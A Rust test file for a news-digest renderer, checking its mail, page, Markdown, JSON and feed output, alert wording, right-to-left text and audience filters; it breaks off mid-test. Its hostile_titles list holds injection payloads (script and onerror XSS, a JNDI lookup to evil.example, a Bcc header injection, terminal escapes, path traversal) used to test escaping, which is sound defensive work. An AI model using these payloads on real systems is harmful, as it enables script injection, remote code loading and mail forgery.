//! What a digest says, and how each format says it.

use std::collections::BTreeSet;

use chrono_tz::Tz;
use sitrepd::{
    digest::{
        Audience, Capped, DAYS, Digest, GivenUp, History, Quiet, Replaced, TopicName,
        render::{self, AlertInput, AlertsInput, FileNames, Format, Look, Pause, Templates, Waited},
    },
    model::{
        Alert, AlertId, AlertKind, Article, ArticleId, Condition, Event, Finding, Health, Hit, Rendered, Severity,
    },
};

use crate::digest_fixture::{Archive, LOOK, Made, alert, at, keep_page, source};

fn rendered(digest: &Digest) -> Rendered {
    render::digest(digest, &Format::ALL, LOOK.get()).unwrap()
}

fn body(message: &Rendered, format: Format) -> &str {
    let ending = format!(".{}", format.extension());
    &message.documents.iter().find(|it| it.name.ends_with(&ending)).unwrap().body
}

#[test]
fn every_format_of_the_sample() {
    let message = rendered(&Archive::sample().digest());
    assert_eq!(message.subject, "South Caucasus daily, 22 November 2026: 1 alert, 10 stories");
    let names = message.documents.iter().map(|it| it.name.as_str()).collect::<Vec<_>>();
    let stem = "daily-2026-11-22T0400Z";
    let dated = ["html", "txt", "md", "json"].map(|it| format!("{stem}.{it}"));
    assert_eq!(names[..4], dated);
    assert_eq!(names[4..], ["daily.atom", "daily.rss", "daily.jsonfeed"]);
    for format in Format::ALL {
        insta::assert_snapshot!(format!("sample.{format}"), body(&message, format));
    }
    // Nothing of it is drawn: the mail has the page as it is.
    assert_eq!(message.html.as_deref(), Some(body(&message, Format::Html)));
    // The text of the mail is the same, and not folded yet.
    let words = |text: &str| text.split_whitespace().filter(|it| *it != ">").map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(words(&message.text), words(body(&message, Format::Text)));
}

#[test]
fn what_happened_to_articles_is_told_once_each() {
    let mut archive = Archive::sample();
    let ids: Vec<_> = archive.reports.iter().map(|it| it.article.id).take(2).collect();
    let event = |n: usize, time: &str, finding| Event { article: ids[n], at: at(time), finding, trail: None };
    let link = archive.reports[0].article.link.clone().unwrap();
    let gone = || Finding::Withdrawn(format!("{} answered with status\u{202e} 404", link.as_str()));
    archive.events = vec![
        event(1, "2026-11-22T03:00:00Z", Finding::Changed(2)),
        event(0, "2026-11-22T02:00:00Z", gone()),
        event(0, "2026-11-22T01:00:00Z", Finding::Changed(2)),
        // An article that is not at hand, and what is nothing to be told.
        Event { article: ArticleId(0xdead), at: at("2026-11-22T03:00:00Z"), finding: gone(), trail: None },
        event(1, "2026-11-22T03:30:00Z", Finding::Same),
    ];
    let digest = archive.digest();
    let told: Vec<_> = digest.events.items.iter().map(|it| (it.report.article, it.is_withdrawn)).collect();
    assert_eq!(told, [(ids[0], true), (ids[1], false)]);
    let message = rendered(&digest);
    assert_eq!(
        message.subject,
        "South Caucasus daily, 22 November 2026: 1 alert, 10 stories, 1 report withdrawn, 1 changed"
    );
    assert!(
        message.text.contains(" of 12 sources · 1 report withdrawn, 1 changed · 2 sources in trouble"),
        "{}",
        message.text
    );
    assert!(message.html.as_ref().unwrap().contains(">1 report withdrawn, 1 changed · Joint training centre"));
    let text = &message.text;
    assert!(text.contains("Changed and withdrawn\n="), "{text}");
    // The address stands beside it.
    assert!(text.contains(" · withdrawn: answered with status 404 · "), "{text}");
    for format in [Format::Html, Format::Markdown] {
        let body = body(&message, format);
        assert!(body.contains("Changed and withdrawn") && body.contains("noticed 22 Nov, 07:00"), "{body}");
        assert!(!body.contains('\u{202e}'));
    }
    let record: serde_json::Value = serde_json::from_str(body(&message, Format::Json)).unwrap();
    assert_eq!(record["events"][0]["what"], "withdrawn");
    let feed = feed_rs::parser::parse(body(&message, Format::Atom).as_bytes()).unwrap();
    let titles: Vec<_> = feed.entries.iter().filter_map(|it| Some(it.title.as_ref()?.content.as_str())).collect();
    let told: Vec<_> = digest.events.items.iter().map(|it| it.report.title.as_str()).collect();
    assert!(titles.contains(&format!("Withdrawn: {}", told[0]).as_str()), "{titles:?}");
    assert!(titles.contains(&format!("Changed: {}", told[1]).as_str()), "{titles:?}");
    let entry = feed.entries.iter().find(|it| it.id.contains("/event/")).unwrap();
    assert!(entry.content.is_some());
    let json_feed: serde_json::Value = serde_json::from_str(body(&message, Format::JsonFeed)).unwrap();
    let items = json_feed["items"].as_array().unwrap();
    assert_eq!(items.iter().filter(|it| it["id"].as_str().unwrap().contains("/event/")).count(), 2);
    assert_eq!((record["events"][1]["what"].as_str(), record["events_left_out"].as_u64()), (Some("changed"), Some(0)));
    // A digest of nothing else is no empty one.
    let mut archive = Archive { reports: archive.reports.split_off(0), ..Archive::empty() };
    archive.events = vec![event(1, "2026-11-29T03:00:00Z", Finding::Changed(2))];
    archive.window = at("2026-11-29T00:00:00Z")..at("2026-11-30T00:00:00Z");
    let digest = archive.digest();
    assert_eq!((digest.totals.stories, digest.events.items.len(), digest.is_empty()), (0, 1, false));
    let title = digest.events.items[0].report.title.clone();
    let message = rendered(&digest);
    assert_eq!(message.subject, "South Caucasus daily, 22 November 2026: 1 report changed");
    assert!(message.text.contains("no reports from 0 sources · 1 report changed\n"), "{}", message.text);
    assert!(message.html.unwrap().contains(&format!(">1 report changed · {title}</div>")));
    // Those that are not shown are counted too.
    archive.limits.events = 0;
    assert!(rendered(&archive.digest()).subject.ends_with(": 1 report changed"));
}

#[test]
fn nothing_new_is_a_digest() {
    let mut archive = Archive::empty();
    archive.sources = Archive::sample().sources;
    let digest = archive.digest();
    assert!(digest.is_empty());
    let message = rendered(&digest);
    assert_eq!(message.subject, "South Caucasus daily, 22 November 2026: nothing new");
    insta::assert_snapshot!("empty.text", body(&message, Format::Text));
    for format in [Format::Html, Format::Markdown] {
        assert!(body(&message, format).contains("Nothing new in this period."), "{format}");
    }
}

#[test]
fn an_alert() {
    let archive = Archive::sample();
    let first = AlertInput {
        alert: &archive.alerts[0],
        severity: Severity::Normal,
        report: archive.reports.iter().find(|it| it.article.id == archive.alerts[0].article),
        source: archive.sources.iter().map(|it| &it.0).find(|it| it.id.as_str() == "vestnik-gor"),
        fate: None,
    };
    let input = AlertsInput {
        first,
        more: &[],
        left_out: 0,
        held: None,
        topics: &archive.topics,
        zone: Tz::Asia__Tbilisi,
        look: LOOK.get(),
    };
    let message = render::alerts(input).unwrap();
    assert_eq!(message.subject, "Alert Vinnikov: В Тбилиси обсудили работу офиса связи (Вестник гор)");
    assert_eq!(message.documents[0].name, "alert-00000000000000a1.txt");
    assert_eq!(message.documents[1].name, "alert-00000000000000a1.json");
    insta::assert_snapshot!("alert.text", message.documents[0].body);
    insta::assert_snapshot!("alert.html", message.html.unwrap());
    insta::assert_snapshot!("alert.json", message.documents[1].body);
    // Another watch found something in the same report.
    let other = Alert { id: AlertId(0xa2), watch: "Office".to_owned(), ..archive.alerts[0].clone() };
    let more = [AlertInput { alert: &other, severity: Severity::Urgent, ..first }];
    let message = render::alerts(AlertsInput { more: &more, ..input }).unwrap();
    assert_eq!(message.subject, "Urgent alert Vinnikov, Office: В Тбилиси обсудили работу офиса связи (Вестник гор)");
    assert_eq!(message.text.matches("[Vinnikov, Office]").count(), 1);
    let record: serde_json::Value = serde_json::from_str(&message.documents[1].body).unwrap();
    let of = |it: &serde_json::Value| (it["watch"].clone(), it["severity"].clone());
    assert_eq!(of(&record["alert"]), ("Vinnikov".into(), "normal".into()));
    assert_eq!(of(&record["more"][0]), ("Office".into(), "urgent".into()));
}

#[test]
fn alerts_that_waited() {
    let archive = Archive::sample();
    let alerts: Vec<_> = archive
        .reports
        .iter()
        .take(3)
        .zip(1..)
        .map(|(report, n)| Alert {
            id: AlertId(n),
            article: report.article.id,
            raised: report.article.first_seen,
            ..archive.alerts[0].clone()
        })
        .collect();
    let inputs: Vec<_> = alerts
        .iter()
        .zip(&archive.reports)
        .map(|(alert, it)| AlertInput { alert, severity: Severity::Normal, report: Some(it), source: None, fate: None })
        .collect();
    let input = AlertsInput {
        first: inputs[0],
        more: &inputs[1..],
        left_out: 4,
        held: Some(Waited { since: alerts[0].raised, pause: Some(Pause::QuietHours) }),
        topics: &archive.topics,
        zone: Tz::Asia__Tbilisi,
        look: LOOK.get(),
    };
    let message = render::alerts(input).unwrap();
    assert_eq!(message.subject, "7 alerts: Vinnikov");
    insta::assert_snapshot!("held.text", message.documents[0].body);
    let record: serde_json::Value = serde_json::from_str(&message.documents[1].body).unwrap();
    assert_eq!((record["more"].as_array().unwrap().len(), &record["more_left_out"]), (2, &4.into()));
    let ids: Vec<_> = render::told(&message).into_iter().collect();
    assert_eq!(ids, ["0000000000000001", "0000000000000002", "0000000000000003"]);
    // Two watches found one of the reports, and nothing is known of what they waited for.
    let other = Alert { id: AlertId(9), watch: "Office".to_owned(), ..alerts[1].clone() };
    let more = [inputs[1], AlertInput { alert: &other, ..inputs[1] }];
    let held = Some(Waited { since: alerts[0].raised, pause: None });
    let message = render::alerts(AlertsInput { more: &more, left_out: 0, held, ..input }).unwrap();
    assert_eq!(message.subject, "3 alerts on 2 reports: Vinnikov, Office");
    assert!(message.text.starts_with("Alerts: Vinnikov, Office\nRaised from "), "{}", message.text);
    assert!(
        message.text.contains("Raised from Sat 21 November 2026, 13:14 to 14:40, told together later · "),
        "{}",
        message.text
    );
    assert!(message.text.contains("! [Vinnikov, Office] Alliance opens needs-based talks"), "{}", message.text);
    // All at the same time.
    let held = Some(Waited { since: alerts[0].raised, pause: Some(Pause::CoolDown) });
    let message = render::alerts(AlertsInput { more: &[], left_out: 0, held, ..input }).unwrap();
    let expected = "Raised on Sat 21 November 2026, 13:14, told at the end of a cool-down · ";
    assert!(message.text.contains(expected), "{}", message.text);
}

#[test]
fn what_was_found_from_right_to_left_turns_nothing_round() {
    let mut archive = Archive::sample();
    let (term, form) = ("NATO liaison office", "دفتر رابط ناتو");
    archive.alerts = vec![alert(0xa1, "دفتر", 8, "2026-11-22T03:00:00Z", (term, form, "این دفتر رابط ناتو است."))];
    let hit = archive.alerts[0].hits[0].clone();
    archive.alerts[0].hits.push(Hit { term: "ناتو".to_owned(), form: "ناتوی".to_owned(), ..hit });
    let digest = archive.digest();
    let message = rendered(&digest);
    // A page takes the direction of what is isolated from its first letter: the form stands alone.
    let (first, second) = ("transliteration of NATO liaison office", "transliteration of ناتو\u{200e}");
    let expected = format!("Found: <bdi>{form}\u{200e}</bdi> — {first}; <bdi>ناتوی\u{200e}</bdi> — {second}</p>");
    let in_feed = expected.replace('<', "&lt;").replace('>', "&gt;");
    assert!(body(&message, Format::Html).contains(&expected) && body(&message, Format::Atom).contains(&in_feed));
    let json_feed: serde_json::Value = serde_json::from_str(body(&message, Format::JsonFeed)).unwrap();
    assert!(json_feed["items"][0]["content_html"].as_str().unwrap().contains(&expected), "{json_feed}");
    // A line of text runs as its first letter does, and a mark ends what runs the other way.
    let expected = format!("Found: {form}\u{200e} — {first}; ناتوی\u{200e} — {second}\n");
    assert!(message.text.contains(&expected), "{}", message.text);
    assert!(body(&message, Format::Markdown).contains(&format!("> {expected}")));
    assert!(message.text.contains("! [دفتر\u{200e}] "), "{}", message.text);
}

/// The order and the place of each story, as `group/topic: id id`.
fn outline(digest: &Digest) -> Vec<String> {
    let mut res = Vec::new();
    for group in &digest.groups {
        for section in &group.sections {
            let ids = section.stories.items.iter().map(|it| it.id.0.0.to_string()).collect::<Vec<_>>().join(" ");
            res.push(format!("{}/{}: {ids}", group.name, section.name.as_deref().unwrap_or("-")));
        }
    }
    res
}

#[test]
fn a_story_stands_once_under_its_best_topic() {
    let digest = Archive::sample().digest();
    assert_eq!(
        outline(&digest),
        [
            "NATO partnership/-: 20",
            "NATO partnership/Tailored partnership programmes: 1",
            "NATO partnership/Liaison office: 3",
            "Armenia–Azerbaijan peace process/-: 5 4",
            "Black Sea security/-: 7 6 10",
            "Iran/-: 8",
        ]
    );
    let told_again = &digest.groups[0].sections[0].stories.items[0];
    assert!(!told_again.is_new);
    assert_eq!((told_again.n_sources, told_again.reports.total()), (2, 2));
    let office = &digest.groups[0].sections[2].stories.items[0];
    assert_eq!(office.also, ["NATO partnership"]);
    let totals = digest.totals;
    assert_eq!((totals.stories, totals.new_stories, totals.reports, totals.reporting_sources), (10, 9, 13, 10));
    assert_eq!(digest.articles.len(), 13);
}

#[test]
fn stories_by_origins_relevance_and_novelty() {
    let mut archive = Archive::empty();
    let made = |id, source: &str, seen: &str, score| {
        Made::new(id, source, "en", seen).text("Title", "A NATO line.").tag("nato", score, &["NATO"])
    };
    archive.reports = vec![
        made(1, "a", "2026-11-21T05:00:00Z", 1.0).report(),
        made(2, "a", "2026-11-21T06:00:00Z", 9.0).report(),
        made(3, "a", "2026-11-21T07:00:00Z", 9.0).report(),
        made(4, "a", "2026-11-21T05:00:00Z", 1.0).report(),
        made(5, "b", "2026-11-21T05:30:00Z", 1.0).copy_of(1).report(),
        // The same outlet twice is one source, and a copy no origin.
        made(6, "a", "2026-11-21T05:30:00Z", 1.0).copy_of(4).report(),
    ];
    assert_eq!(outline(&archive.digest()), ["NATO partnership/-: 3 2 1 4"]);
    let first = &archive.digest().groups[0].sections[0].stories.items[0];
    assert!((first.rank.relevance - 1.0).abs() < 1e-6 && (first.rank.novelty - 1.0).abs() < 1e-6);
}

#[test]
fn windows_share_no_story_and_lose_none() {
    let mut archive = Archive::empty();
    archive.reports = (0..48)
        .map(|hour| {
            let seen = at("2026-11-20T04:00:00Z") + chrono::TimeDelta::hours(hour);
            Made::new(u64::try_from(hour).unwrap(), "a", "en", &seen.to_rfc3339()).text("Title", "Body.").report()
        })
        .collect();
    let mut seen = archive.digest().articles;
    archive.window = at("2026-11-20T04:00:00Z")..archive.window.start;
    seen.extend(archive.digest().articles);
    seen.sort();
    assert_eq!(seen.len(), 48);
    seen.dedup();
    assert_eq!(seen.len(), 48);
}

#[test]
fn what_is_cut_is_counted() {
    let mut archive = Archive::empty();
    let topic = |id: u64| if id < 100 { "nato" } else { "peace" };
    archive.reports = (0..200)
        .map(|id| {
            let seen = at("2026-11-21T04:00:00Z") + chrono::TimeDelta::minutes(i64::try_from(id).unwrap());
            let made = Made::new(id, "a", "en", &seen.to_rfc3339()).text("Title", "A line.");
            if id % 2 == 0 { made.report() } else { made.tag(topic(id), 1.0, &["line"]).report() }
        })
        .collect();
    archive.alerts =
        (0..40).map(|id| alert(id, "Watch", id, "2026-11-21T05:00:00Z", ("line", "line", "A line."))).collect();
    let digest = archive.digest();
    assert_eq!((digest.alerts.items.len(), digest.alerts.more), (30, 10));
    assert_eq!((digest.others.items.len(), digest.others.more), (20, 80));
    let stories = &digest.groups[0].sections[0].stories;
    assert_eq!((stories.items.len(), stories.more), (10, 40));
    let message = rendered(&digest);
    for format in [Format::Html, Format::Text] {
        for said in ["and 10 more alerts", "and 80 more stories", "and 40 more stories"] {
            assert!(body(&message, format).contains(said), "{format}: {said}");
        }
    }
    assert!(body(&message, Format::Html).len() < 100_000, "clipped by large mail services");
}

#[test]
fn dates_that_cannot_be_are_not_shown() {
    let mut archive = Archive::empty();
    let made = |id, published: Option<&str>| {
        let mut report = Made::new(id, "a", "en", "2026-11-21T05:00:00Z").text("Title", "Body.").report();
        report.article.published = published.map(at);
        report
    };
    archive.reports = vec![
        made(1, Some("2036-11-21T05:00:00Z")),
        made(2, None),
        made(3, Some("2026-11-21T05:59:00Z")),
        made(4, Some("2019-01-01T00:00:00Z")),
    ];
    let text = rendered(&archive.digest()).text;
    assert!(text.contains("4 stories · 4 reports from 1 source\n"), "{text}");
    assert_eq!(text.matches("seen 21 Nov, 09:00").count(), 2, "{text}");
    assert!(text.contains("a · 21 Nov, 09:59") && text.contains("a · 1 Jan 2019, 04:00"), "{text}");
}

/// Titles made to break out of something.
fn hostile_titles() -> Vec<String> {
    let mut res = [
        "</title><script>alert(1)</script>",
        "\" onmouseover=\"alert(1)\" x='",
        "<img src=x onerror=alert(1)>",
        "<svg><animate onbegin=alert(1)>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "[x](javascript:alert(1)) ![y](http://evil.example/y.png)",
        "`code` **bold** # heading | table",
        "{{7*7}} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a}",
        "]]><entry><title>forged</title></entry>",
        "first\r\nBcc: victim@example.org\r\n\r\nbody",
        "second\nlevel=error fake=record",
        "third\u{2028}line\u{2029}more\u{85}end",
        "\u{1b}]0;owned\u{7}\u{1b}[2J\u{9b}31m red",
        "exe.\u{202e}fdp\u{2066}x\u{2069}",
        "nul\0byte \u{fffe} \u{feff}",
        "../../etc/cron.d/x",
        ".",
        "",
    ]
    .map(str::to_owned)
    .to_vec();
    res.push("long ".repeat(2_000));
    res.push("ж".repeat(1_000_000));
    res
}

pub(crate) fn hostile() -> Archive {
    let mut archive = Archive::empty();
    archive.title = "Daily\r\nBcc: x".to_owned();
    archive.limits.stories = 100;
    archive.limits.others = 100;
    archive.limits.alerts = 100;
    for (id, title) in (0..).zip(hostile_titles()) {
        let mut tagged = Made::new(id, "a", "en", "2026-11-21T05:00:00Z").text(&title, &format!("{title} NATO"));
        tagged = tagged.tag("nato", 1.0, &["NATO"]);
        let mut report = tagged.report();
        report.article.language = Some("en\" onload=\"x".to_owned());
        report.article.site_name = Some(title.clone());
        let mut other = Made::new(1000 + id, "b", "en", "2026-11-21T05:00:00Z").text(&title, "").report();
        other.article.link = None;
        archive.reports.extend([report, other]);
        archive.alerts.push(alert(id, &title, id, "2026-11-21T05:00:00Z", (&title, &title, &format!("{title} NATO"))));
    }
    archive.sources = vec![source(
        "sick",
        "<b>Sick</b>",
        "en",
        Health {
            condition: Condition::Repaired,
            reason: "<script>alert(1)</script>\r\n".to_owned(),
            since: "2026-11-21T05:00:00Z".parse().unwrap(),
        },
    )];
    archive
}

#[test]
fn hostile_titles_stay_text_in_every_format() {
    let digest = hostile().digest();
    let mut messages = vec![rendered(&digest)];
    for (alert, report) in hostile().alerts.iter().zip(hostile().reports.iter().step_by(2)) {
        messages.push(
            render::alerts(AlertsInput {
                first: AlertInput { alert, severity: Severity::Normal, report: Some(report), source: None, fate: None },
                more: &[],
                left_out: 0,
                held: None,
                topics: &[],
                zone: Tz::UTC,
                look: LOOK.get(),
            })
            .unwrap(),
        );
    }
    keep_page("hostile", body(&messages[0], Format::Html));
    for message in messages {
        assert!(message.subject.chars().count() <= 150);
        assert_clean(&message.subject, "subject");
        assert!(!message.subject.contains('\n'));
        let html = message.html.as_deref().unwrap();
        check_html(html);
        for (name, text) in [("html", html), ("text", &message.text)] {
            assert_clean(text, name);
        }
        for document in &message.documents {
            assert_clean(&document.body, &document.name);
            let fits = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_');
            assert!(document.name.chars().all(fits) && !document.name.starts_with('.'), "{}", document.name);
        }
        assert!(message.text.lines().all(|line| line.len() <= 998), "a line is too long for mail");
        for line in message.text.lines() {
            assert!(!["Bcc:", "level=", "."].iter().any(|start| line.starts_with(start)), "{line}");
        }
    }
}

/// No control or bidirectional override character but the line feed.
#[track_caller]
pub(crate) fn assert_clean(text: &str, name: &str) {
    let bad = |c: char| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
    };
    assert!(!text.contains(bad), "{name} has {:?}", text.chars().find(|c| bad(*c)));
}

/// The page as a browser's parser sees it has only the elements and attributes that the template writes.
#[track_caller]
pub(crate) fn check_html(html: &str) {
    const ELEMENTS: &[&str] = &[
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "div",
        "header",
        "section",
        "article",
        "h1",
        "h2",
        "h3",
        "h4",
        "p",
        "a",
        "mark",
        "bdi",
        "blockquote",
        "ul",
        "li",
        "span",
        "strong",
        "br",
        "footer",
    ];
    const ATTRIBUTES: &[&str] = &["lang", "dir", "class", "style", "href", "charset", "name", "content"];
    let page = scraper::Html::parse_document(html);
    for element in page.tree.values().filter_map(|it| it.as_element()) {
        assert!(ELEMENTS.contains(&element.name()), "element {}", element.name());
        for (name, value) in element.attrs() {
            assert!(ATTRIBUTES.contains(&name), "attribute {name} of {}", element.name());
            assert!(name != "href" || value.starts_with("https://"), "link to {value}");
            assert!(name != "style" || !value.contains("url("), "style loads {value}");
        }
    }
    assert!(!html.contains("49") && html.contains("<title>"));
}

#[test]
fn hostile_titles_are_shown_literally() {
    let message = rendered(&hostile().digest());
    let page = scraper::Html::parse_document(body(&message, Format::Html));
    let selector = scraper::Selector::parse("h4").unwrap();
    let shown = page.select(&selector).map(|it| it.text().collect::<String>()).collect::<Vec<_>>();
    for expected in [
        "</title><script>alert(1)</script>",
        "{{7*7}} {% include '/etc/passwd' %} ${jndi:ldap://evil.example/a}",
        "first Bcc: victim@example.org body",
        "]0;owned[2J31m red",
        "a.example/2026/18",
    ] {
        assert!(shown.iter().any(|it| it == expected), "{expected} is not among {shown:#?}");
    }
    assert!(shown.iter().any(|it| it.ends_with('…') && it.chars().count() <= 200));

    // What is left of the Markdown without its escaped characters.
    let markdown = body(&message, Format::Markdown).replace("\\\\", "");
    let live =
        markdown.split('\\').enumerate().map(|(n, it)| if n == 0 { it } else { it.get(1..).unwrap_or_default() });
    let live = live.collect::<String>();
    assert!(live.split("](").skip(1).all(|it| it.starts_with("<https://")), "a foreign link");
    assert!(live.split('<').skip(1).all(|it| it.starts_with("https://")) && !live.contains('!'), "foreign markup");
    let json = serde_json::from_str::<serde_json::Value>(body(&message, Format::Json)).unwrap();
    assert_eq!(json["version"], 1);
    assert_eq!(json["title"], "Daily Bcc: x");
}

#[test]
fn the_atom_feed_is_read_back() {
    for (archive, n_entries) in
        [(Archive::sample(), 11), (hostile(), 3 * hostile_titles().len()), (Archive::empty(), 0)]
    {
        let digest = archive.digest();
        let message = rendered(&digest);
        let feed = feed_rs::parser::parse(body(&message, Format::Atom).as_bytes()).unwrap();
        assert_eq!(feed.id, "tag:desk.example,2026:sitrepd/digest/daily");
        assert_eq!(feed.updated, Some(at("2026-11-22T04:00:07Z")));
        assert_eq!(feed.entries.len(), n_entries);
        let mut ids = feed.entries.iter().map(|it| it.id.as_str()).collect::<Vec<_>>();
        assert!(ids.iter().all(|id| id.starts_with("tag:desk.example,2026-11-")), "{ids:?}");
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), n_entries, "ids repeat");
        for entry in &feed.entries {
            assert!(
                entry.title.is_some()
                    && entry.updated.is_some()
                    && entry.content.is_some()
                    && !entry.authors.is_empty()
            );
            assert!(entry.links.iter().all(|it| it.href.starts_with("https://")));
        }
    }
}

/// The stories of a digest: those under topics, then those under none.
fn shown(digest: &Digest) -> Vec<u64> {
    let sections = digest.groups.iter().flat_map(|it| &it.sections);
    let under_topics = sections.flat_map(|it| &it.stories.items).map(|it| it.id.0.0);
    under_topics.chain(digest.others.items.iter().map(|it| it.id.0.0)).collect()
}

#[test]
fn an_audience_gets_what_it_is_about() {
    let names = |list: &[&str]| list.iter().map(|it| (*it).to_owned()).collect::<Vec<_>>();
    let check = |audience: Audience, expected: &[u64], alerts: usize| {
        let archive = Archive { audience: audience.clone(), ..Archive::sample() };
        let digest = archive.digest();
        assert_eq!((shown(&digest), digest.totals.alerts), (expected.to_vec(), alerts), "{audience:?}");
        assert_eq!(digest.totals.stories, expected.len(), "{audience:?}");
        let n_reports = archive.reports.iter().filter(|it| digest.articles.contains(&it.article.id)).count();
        assert_eq!(n_reports, digest.totals.reports);
    };
    let all = Audience::default;
    check(all(), &[20, 1, 3, 5, 4, 7, 6, 10, 8, 9], 1);
    // A topic brings those below it, and the alerts of its stories.
    check(Audience { topics: names(&["nato"]), ..all() }, &[20, 1, 3], 1);
    check(Audience { topics: names(&["iran"]), ..all() }, &[8], 0);
    // A watch brings its stories; another one nothing.
    check(Audience { watches: names(&["Vinnikov"]), ..all() }, &[3], 1);
    check(Audience { watches: names(&["Other"]), ..all() }, &[], 0);
    check(Audience { watches: names(&["Vinnikov"]), topics: names(&["iran"]), ..all() }, &[8, 3], 1);
    check(Audience { languages: names(&["fa", "ru"]), ..all() }, &[3, 8], 1);
    check(Audience { languages: names(&["fa"]), ..all() }, &[8], 0);
    check(Audience { countries: names(&["ZZ"]), ..all() }, &[], 0);
    check(Audience { min_confidence: 0.999, topics: names(&["iran"]), ..all() }, &[8], 0);
    check(Audience { min_score: 4.0, ..all() }, &[1], 1);
}

/// A month before the sample: a topic with reports, a watch that fired nine days ago.
fn with_a_month_before() -> Archive {
    let mut archive = Archive::sample();
    let mut days = vec![0; DAYS];
    (days[3], days[20], days[DAYS - 1]) = (2, 9, 4);
    archive.history = History {
        volume: [
            ("nato-itpp".to_owned(), days.clone()),
            ("cyber".to_owned(), {
                days[DAYS - 1] = 0;
                days
            }),
        ]
        .into(),
        watches: vec!["Border".to_owned(), "Vinnikov".to_owned(), "Never <b>".to_owned()],
        heard: [("Border".to_owned(), at("2026-11-13T03:00:00Z"))].into(),
        found: [("Border".to_owned(), "border".to_owned())].into(),
        days_held: DAYS,
        is_deep: true,
    };
    archive.topics.push(TopicName { id: "cyber".to_owned(), name: "Cyber".to_owned(), parent: None });
    let report = |id: u64| archive.reports.iter().find(|it| it.article.id == ArticleId(id)).unwrap().article.clone();
    let event = |id: u64, time: &str, finding| Event { article: ArticleId(id), at: at(time), finding, trail: None };
    archive.events = vec![
        event(3, "2026-11-21T16:30:00Z", Finding::Changed(2)),
        event(8, "2026-11-21T21:00:00Z", Finding::Changed(2)),
        event(9, "2026-11-22T01:00:00Z", Finding::Withdrawn("it answered with status 410 twice".to_owned())),
    ];
    let mut replaced = Vec::new();
    for (id, word, before) in [(3, "два часа", "один час"), (8, "به\u{200c}زودی", "فردا")] {
        let old = report(id);
        let new = Article { version: 2, ..old.clone() };
        replaced.push(Replaced { old: Article { body: old.body.replace(word, before), ..old }, new });
    }
    archive.replaced = replaced;
    archive
}

#[test]
fn what_is_quiet_what_is_new_and_how_much_is_usual() {
    let mut archive = with_a_month_before();
    let digest = archive.digest();
    let quiet = |list: &Capped<Quiet>| list.items.iter().map(|it| (it.name.clone(), it.days)).collect::<Vec<_>>();
    assert_eq!(quiet(&digest.quiet_topics), [("Cyber".to_owned(), Some(9))]);
    assert_eq!(quiet(&digest.quiet_watches), [("Border".to_owned(), Some(9)), ("Never <b>".to_owned(), None)]);
    let volume = digest.volume.items.iter().map(|it| (it.topic.as_str(), it.today, it.usual)).collect::<Vec<_>>();
    assert_eq!(volume, [("nato-itpp", 4, Some(11.0 / 29.0)), ("cyber", 0, Some(11.0 / 29.0))]);
    let mentions = |it: &Digest| it.first_mentions.items.iter().map(|it| it.term.clone()).collect::<Vec<_>>();
    assert_eq!(mentions(&digest), ["Винников"]);

    let message = rendered(&digest);
    for format in Format::ALL {
        insta::assert_snapshot!(format!("month.{format}"), body(&message, format));
    }
    let (page, mail) = (body(&message, Format::Html), message.html.as_deref().unwrap());
    keep_page("fixture", page);
    keep_page("fixture-mail", mail);
    assert!(page.contains("<svg") && page.contains("Never &lt;b&gt;") && !page.contains("Never <b>"));
    assert!(!mail.contains("<svg") && mail.contains("▂") && mail.contains("Never &lt;b&gt;"), "mail shows no drawings");

    // What was found before is no first mention, and in a young archive everything would be one.
    archive.history.found.insert(("Vinnikov".to_owned(), "Винников".to_owned()));
    assert_eq!(mentions(&archive.digest()), [""; 0]);
    let mut young = with_a_month_before();
    young.history.is_deep = false;
    assert!(!rendered(&young.digest()).text.contains("usually 0"), "of a young archive nothing is usual");
    assert_eq!(mentions(&young.digest()), [""; 0]);
    let record: serde_json::Value = serde_json::from_str(body(&rendered(&young.digest()), Format::Json)).unwrap();
    assert!(record["volume"][0]["usual"].is_null());
    // An audience hears of its own topics and watches only.
    let audience =
        Audience { topics: vec!["iran".to_owned()], watches: vec!["Border".to_owned()], ..Audience::default() };
    let digest = Archive { audience, ..with_a_month_before() }.digest();
    assert_eq!((digest.quiet_topics.total(), digest.volume.total()), (0, 0));
    assert_eq!(quiet(&digest.quiet_watches), [("Border".to_owned(), Some(9))]);
}

#[test]
fn a_digest_says_what_it_cannot_know() {
    let mut archive = Archive::sample();
    assert!(archive.digest().notes.is_empty());
    archive.given_up = Some(GivenUp { messages: 2, oldest: "2026-11-20T03:00:00Z".parse().unwrap() });
    for (_, state) in &mut archive.sources {
        let state = state.as_mut().unwrap();
        (state.polled, state.due) = ("2026-11-21T05:00:00Z".parse().unwrap(), "2026-11-21T05:30:00Z".parse().unwrap());
    }
    let message = rendered(&archive.digest());
    let text = message.text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(text.contains("not polled since 21 November, 09:00"), "{text}");
    assert!(text.contains("2 earlier messages, the first of 20 November, 07:00, could not be delivered"), "{text}");
    for format in [Format::Html, Format::Markdown, Format::Json] {
        assert!(body(&message, format).contains("could not be delivered"), "{format}");
    }
}

#[test]
fn two_sentences_that_say_two_things() {
    let mut archive = Archive::empty();
    let text = "The minister of the northern region spoke for an hour before the old parliament.\n\
                Ships of the alliance will visit the port of the capital in May. \
                Ships of the alliance will visit the port of the capital in early May. \
                A training centre near the airfield opens its doors to the allied staff in June. Alliance.";
    archive.reports = vec![
        Made::new(1, "a", "en", "2026-11-21T05:00:00Z")
            .text("Visit", text)
            .tag("nato", 6.0, &["Ships of the alliance", "allied staff"])
            .report(),
    ];
    let digest = archive.digest();
    let story = &digest.groups[0].sections[0].stories.items[0];
    let told = story.quotes.iter().map(|it| it.sentence.text.as_str()).collect::<Vec<_>>();
    assert_eq!(
        told,
        [
            "Ships of the alliance will visit the port of the capital in May.",
            "A training centre near the airfield opens its doors to the allied staff in June.",
        ]
    );
    assert!(story.quotes.iter().all(|it| !it.sentence.marks.is_empty()));
}

#[test]
fn of_sentences_that_show_as_much_the_central_one_is_told() {
    let mut archive = Archive::empty();
    archive.limits.quotes = 1;
